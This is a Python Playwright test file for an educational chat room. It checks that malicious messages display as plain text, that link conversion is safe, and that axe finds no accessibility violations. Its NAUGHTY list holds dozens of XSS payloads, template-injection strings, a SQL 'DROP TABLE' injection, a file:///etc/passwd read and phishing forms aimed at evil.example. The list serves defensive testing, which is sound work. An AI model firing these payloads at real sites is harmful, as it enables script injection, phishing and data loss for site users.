"""Whatever people write stands there as text, live and after a reload; and axe finds nothing."""

from functools import partial

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from tests.browser.room_people import World, line, make_world, person, wait_until_live, write
from tests.browser.test_accessibility import OPTIONS, WIDTHS
from tests.live_site import live_site

pytestmark = pytest.mark.browser

NAUGHTY = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "</p></article></div><h1>Out</h1>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<a href='javascript:alert(1)'>click</a>",
    "<style>body { display: none }</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<plaintext>",
    "<textarea>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://https://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7} <%= 7*7 %>",
    "__proto__ constructor toString hasOwnProperty",
    "undefined null NaN true -1 1e309",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    "' OR 1=1; DROP TABLE chat_message; --",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202etxet desrever\u202c after",
    "\u2066isolate\u2069 \u200fmark\u200e",
    "zero\u200bwidth\u200cjoin\u200dno\ufeffbom",
    "مرحبا بالعالم, and hello",
    "שלום עולם 123",
    "Z̷̢͇̈́a̶͚͛l̵͓̀g̸̱̈ǒ̵̝ " + "e" + "\u0301" * 60,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇳 👍🏿",
    "﷽ 𒐫 𒈙 ꧅",
    "W" * 400,
    "𝕳𝖚𝖌𝖊 " * 60 + "end",
    "tab\there and\n\n\nempty lines",
    "line\u2028separator\u2029paragraph",
    "http://",
    "https://example.org:99999999/ https://[::1 http://%zz",
    "<details open ontoggle=alert(1)><summary>Open</summary></details>",
    "<input autofocus onfocus=alert(1)> <video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<object data=data:text/html,x></object><embed src=//evil.example/>",
    "<form action=//evil.example/><button>Log in again</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css><div style='position:fixed;inset:0'>",
    "<img src=`x` onerror=alert`1`> <IMG SRC=x ONERROR=alert(1)> <img/src/onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt> <\u200bscript>alert(1)</script>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "]]><![CDATA[<script>alert(1)</script>]]> <?php phpinfo(); ?>",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3E; &lt &colon; &NewLine; &#0;",
    "＜script＞alert(1)＜/script＞ ‹script› ʺonclick=alert(1)ʺ",
    "background: url(javascript:alert(1)); width: expression(alert(1)); @import '//evil.example'",
    "{{constructor.constructor('alert(1)')()}} [[7*7]] {% include '/etc/passwd' %} {{{raw}}}",
    "java\tscript:alert(1) java\nscript:alert(1) feed:javascript:alert(1) blob:x about:blank",
    "\u202e\u202d\u202b\u202a five that are never ended \u2067\u2068",
    "soft\u00adhyphen word\u2060joiner filler\u3164 blank\u2800 \u034f tags\U000e0061\U000e007f",
    "private \ue000\uf8ff and none \ufffe\uffff\U0010ffff replaced \ufffd",
    "stacked a" + "\u0321\u0489\u20dd" * 40 + " b",
    "İstanbul ıI ß ﬁ Å Å ǅ ﷺ ௵ ‱",
    "👨🏾‍❤️‍💋‍👨🏻 1️⃣ ☺︎ ☺️ 🧑🏿‍🦽‍➡️ 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇺🇺🇳 🏿",
    "Don" + "au\u00ad" * 150 + "dampf",
    "x" * 1_990 + " and end",
]
# No more than the room shows at once after a reload.
A_PAGE = 40
# A page waits between lines when it has sent forty frames at once.
SENT_MS = 30_000
SAFE = {
    "See https://example.org/a?b=c&d=(e)#f, please.": ["https://example.org/a?b=c&d=(e)#f"],
    "(http://example.org/x_(y)) http://example.org.": [
        "http://example.org/x_(y)",
        "http://example.org/",
    ],
    'https://example.org/"onmouseover="alert(1)': ["https://example.org/"],
    "https://bank.example@evil.example/login": [],
}


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    folder = tmp_path_factory.mktemp("room") / "site"
    burst = {"EDUCA_CHAT_BURST": "500", "EDUCA_CHAT_PER_MINUTE": "6000"}
    with live_site(folder, with_demo=False, **burst) as site:
        yield make_world(site)


def note_error(problems: list[str], message: ConsoleMessage) -> None:
    if message.type == "error":
        problems.append(message.text)


def read_bodies(page: Page) -> list[str]:
    return page.locator("[data-log] .message__body").all_text_contents()


def batched(texts: list[str], size: int) -> list[list[str]]:
    return [texts[start : start + size] for start in range(0, len(texts), size)]


def expect_plain(page: Page, texts: list[str]) -> None:
    """The newest lines are these texts, letter by letter, and break neither page nor phone."""
    page.set_viewport_size({"width": 320, "height": 700})
    assert read_bodies(page)[-len(texts) :] == texts
    links = page.locator(".message__body a")
    assert all("javascript" not in (a.get_attribute("href")) for a in links.all())
    assert page.locator(".message__body > :not(a)").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= 320


def test_naughty_texts_are_text(world: World, browser: Browser):
    with (
        person(browser, world, "student_a") as student,
        person(browser, world, "instructor_a") as teacher,
    ):
        wait_until_live(student)
        wait_until_live(teacher)
        for page in (student, teacher):
            page.on("console", partial(note_error, page.problems))
        for texts in batched(NAUGHTY, A_PAGE):
            for text in texts:
                write(student, text)
            for page in (student, teacher):
                expect(page.locator("[data-pending]")).to_have_count(0, timeout=SENT_MS)
                expect(page.locator("[data-log] .message__body").last).to_have_text(texts[-1])
                for _ in range(2):
                    expect_plain(page, texts)
                    page.reload()
                    wait_until_live(page)


def test_only_web_addresses_become_links(world: World, browser: Browser):
    with person(browser, world, "student_a") as student:
        wait_until_live(student)
        for _ in range(2):
            for text, hrefs in SAFE.items():
                if not line(student, text).count():
                    write(student, text)
                links = line(student, text).locator(".message__body a")
                expect(links).to_have_count(len(hrefs))
                assert [link.get_attribute("href") for link in links.all()] == hrefs
                for link in links.all():
                    assert link.get_attribute("rel") == "noopener noreferrer nofollow ugc"
                    assert link.get_attribute("target") == "_blank"
            student.reload()


def find_violations(page: Page) -> list[str]:
    found = Axe().run(page, options=OPTIONS).response["violations"]
    page.is_measured = True
    return [f"{one['id']} {[node['target'] for node in one['nodes']][:3]}" for one in found]


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_in_a_living_room(world: World, browser: Browser, theme: str):
    with person(browser, world, "student_a", color_scheme=theme) as student:
        wait_until_live(student)
        write(student, f"A line in the {theme}")
        found = []
        for width, height in {320: 700, **WIDTHS}.items():
            student.set_viewport_size({"width": width, "height": height})
            mine = line(student, f"A line in the {theme}")
            found += find_violations(student)
            mine.get_by_role("link", name="Edit").click()
            found += find_violations(student)
            assert student.evaluate("document.documentElement.scrollWidth") <= width
            student.keyboard.press("Escape")
            mine.get_by_role("link", name="Delete").click()
            found += find_violations(student)
            student.keyboard.press("Escape")
        assert not found
        # Axe itself breaks the policy on inline styles.
        student.problems[:] = [one for one in student.problems if "Content Security" not in one]
